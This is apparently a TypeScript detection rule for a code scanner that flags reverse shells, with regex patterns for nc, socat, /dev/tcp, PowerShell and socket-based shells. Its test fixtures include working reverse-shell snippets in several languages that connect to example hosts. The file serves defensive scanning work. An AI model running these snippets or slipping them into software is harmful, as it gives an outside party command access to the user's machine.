import { defineRule, text, whole } from "../../core/rule.ts";
import { handedShells } from "./reverse-shell.data.ts";

export default defineRule({
  id: "privilege/reverse-shell",
  title: "Opens a shell on this machine to someone outside",
  severity: "critical",
  confidence: "high",
  why: "Whoever is at the other end of the connection runs commands as the user, for as long as it stands.",
  remediation: "Remove it, and treat any machine on which it ran as taken over.",
  references: ["https://attack.mitre.org/techniques/T1059/004/", "https://attack.mitre.org/techniques/T1095/"],
  taxonomy: {
    agenticSkills: ["AST01"],
    agenticApplications: ["ASI05", "ASI10"],
    atlas: ["AML.T0072"],
    cwe: ["CWE-506", "CWE-912"],
  },
  checks: [
    whole(handedShells),
    text({
      anchors: ["/dev/tcp/", "/dev/udp/"],
      pattern:
        /\b(?:ba|z|k|da)?sh\b[^\n]{0,40}(?:>&?|<>?|\d<>)\s{0,2}\/dev\/(?:tcp|udp)\/[\w.${}-]{3,80}\/[\w${}]{1,20}|\bexec\s{1,3}\d{1,3}<>\s{0,2}\/dev\/(?:tcp|udp)\/[^\n]{3,100}[\s\S]{0,160}?(?:\b(?:ba)?sh\s[^\n]{0,20}<&|\beval\b|\$line\b)/,
      after: 300,
    }),
    text({
      anchors: ["nc ", "nc.traditional", "ncat ", "netcat "],
      pattern:
        /\b(?:nc|ncat|netcat|nc\.traditional)(?<![\s\S]{19})[\s\\][^\n;|]{0,80}?(?:-\w{0,6}[ec]|--(?:sh-)?exec)[\s=\\]{1,5}["']?(?:(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh|cmd|powershell)\b/,
      before: 4,
      after: 140,
    }),
    text({
      anchors: ["socat ", "| nc ", "|nc ", "| ncat", "|ncat", "| netcat", "| telnet", "|telnet"],
      pattern:
        /\bsocat\s[^\n;]{0,120}exec:["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b|\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z)?sh\s{0,2}(?:-i\s{0,2})?(?:2>&1\s{0,2})?\|\s{0,3}(?:nc|ncat|netcat|telnet)\s/,
      before: 40,
      after: 160,
    }),
    text({
      anchors: ["nc ", "ncat ", "netcat ", "telnet "],
      pattern:
        /\b(?:nc|ncat|netcat|telnet)(?<![\s\S]{12})\s{1,3}[^\n|;]{4,80}\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z)?sh\b[^\n|]{0,20}(?:\||>)/,
      before: 4,
      after: 130,
    }),
    text({
      anchors: ["/inet/tcp/", "/inet/udp/"],
      pattern: /\/inet\/(?:tcp|udp)\/0\/[^\n]{3,120}\|&\s{0,2}getline/,
      before: 4,
    }),
    text({
      anchors: ["dup2(", "pty.spawn(", "sockaddr_in("],
      pattern:
        /\bsocket\b[\s\S]{0,300}?\bconnect\([\s\S]{0,240}?(?:\bdup2\([\s\S]{0,200}?(?:subprocess|pty\.spawn|os\.exec|execve?\(|\/bin\/(?:ba)?sh)|\bpty\.spawn\(\s{0,3}["'](?:\/bin\/)?(?:ba|z)?sh|sockaddr_in\([\s\S]{0,200}?\bexec\(?\s{0,3}\{?["']\/bin\/(?:ba)?sh)/,
      before: 560,
      after: 420,
    }),
    text({
      anchors: ["tcpclient(", "net.sockets.tcpclient"],
      pattern:
        /\bnet\.sockets\.tcpclient\b[\s\S]{0,500}?\bgetstream\(\)[\s\S]{0,500}?\b(?:iex|invoke-expression|start-process|cmd(?:\.exe)?)\b/,
      before: 40,
      after: 1200,
    }),
    text({
      anchors: [
        "net.connect(",
        "net.socket(",
        "createconnection(",
        "fsockopen(",
        "tcpsocket.new",
        "tcpsocket.open",
        "net.dial(",
      ],
      pattern:
        /(?:\bnet\.(?:connect|createconnection)\(|\bnet\.socket\(\)|\bfsockopen\(|\btcpsocket\.(?:new|open)|\bnet\.dial\()(?:(?!net\.(?:con|soc|dial)|fsocko|tcpsocket)[\s\S]){0,240}?(?:\.pipe\(\s{0,3}\w{1,20}\.stdin\b|proc_open\(\s{0,3}["'](?:\/bin\/)?(?:ba)?sh|\bexec\(?\s{0,3}["']\/bin\/(?:ba)?sh|\bexec\.command\(\s{0,3}["']\/bin\/(?:ba)?sh)|\bspawn\(\s{0,3}["'](?:\/bin\/)?(?:ba|z)?sh["'][\s\S]{0,160}?\bnet\.(?:connect|createconnection)\([\s\S]{0,200}?\.pipe\(/,
      before: 190,
      after: 330,
    }),
    text({
      anchors: ["msfvenom", "meterpreter", "reverse_tcp", "reverse_https"],
      pattern:
        /\b(?:msfvenom\s[^\n]{0,60}-p\s|(?:windows|linux|osx|python|php|java|cmd)\/[\w/]{0,40}(?:meterpreter|shell)\/?_?reverse_(?:tcp|https?))/,
      confidence: "medium",
    }),
  ],
  examples: {
    bad: [
      {
        path: "tune.py",
        text: 'import os, pty, socket\n\ndef tune(at):\n    s = socket.create_connection(at, 5)\n    if os.fork():\n        return\n    for fd in range(3):\n        os.dup2(s.fileno(), fd)\n    pty.spawn(os.environ.get("SHELL", "/bin/sh"))\n',
        line: 8,
      },
      {
        path: "tune.js",
        text: 'const net = require("net");\nconst cp = require("child_process");\nconst c = net.createConnection(9001, host, () => {\n  const p = cp.spawn(process.env.SHELL || "sh");\n  c.pipe(p.stdin);\n  p.stdout.pipe(c);\n});\n',
        line: 5,
      },
      {
        path: "tune.rb",
        text: 'require "socket"\ns = TCPSocket.new(host, 9001)\nwhile line = s.gets\n  IO.popen(line, "r") { |io| s.print io.read }\nend\n',
        line: 3,
      },
      {
        path: "tune.ps1",
        text: "$c = New-Object Net.Sockets.TcpClient($h, 9001)\n$s = $c.GetStream()\n$b = New-Object byte[] 65535\nwhile (($i = $s.Read($b, 0, $b.Length)) -ne 0) {\n  $o = (Invoke-Expression ([Text.Encoding]::ASCII.GetString($b, 0, $i)) | Out-String)\n}\n",
        line: 1,
      },
      {
        path: "tune.go",
        text: 'package main\n\nfunc main() {\n\tc, _ := net.Dial("tcp", at)\n\tcmd := exec.Command("sh")\n\tcmd.Stdin = c\n\tcmd.Stdout = c\n\tcmd.Run()\n}\n',
        line: 6,
      },
      {
        path: "poll.py",
        text: "import socket, subprocess\ns = socket.socket()\ns.connect(at)\nwhile True:\n    line = s.recv(4096).decode()\n    done = subprocess.run(line, shell=True, capture_output=True)\n    s.sendall(done.stdout)\n",
        line: 5,
      },
      { path: "b.sh", text: "mkfifo /tmp/p; nc 203.0.113.5 9001 < /tmp/p | /bin/sh > /tmp/p 2>&1\n", line: 1 },
      { path: "c.sh", text: "nc -e \\\n  /bin/sh 203.0.113.5 9001\n", line: 1 },
      { path: "diag.sh", text: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", line: 1 },
      { text: "```bash\nnc -l -p 4444 -e /bin/sh\n```\n", line: 2 },
      {
        path: "diag.py",
        text: 's = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
        line: 1,
      },
    ],
    good: [
      {
        path: "bridge.py",
        text: "import socket, subprocess\ns = socket.socket()\ns.bind(('127.0.0.1', 9000))\ns.listen()\nc, _ = s.accept()\nline = c.recv(100)\nsubprocess.run(['open', 'a'])\n",
      },
      {
        path: "proxy.js",
        text: 'const net = require("net");\nconst up = net.connect(80, host);\nclient.pipe(up);\nup.pipe(client);\nconst p = spawn("ls");\np.stdout.pipe(process.stdout);\n',
      },
      {
        path: "wait.sh",
        text: "until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\nnc -z db 5432\n",
      },
      { path: "port.py", text: 's = socket.socket()\ns.bind(("127.0.0.1", 0))\nport = s.getsockname()[1]\n' },
    ],
  },
});
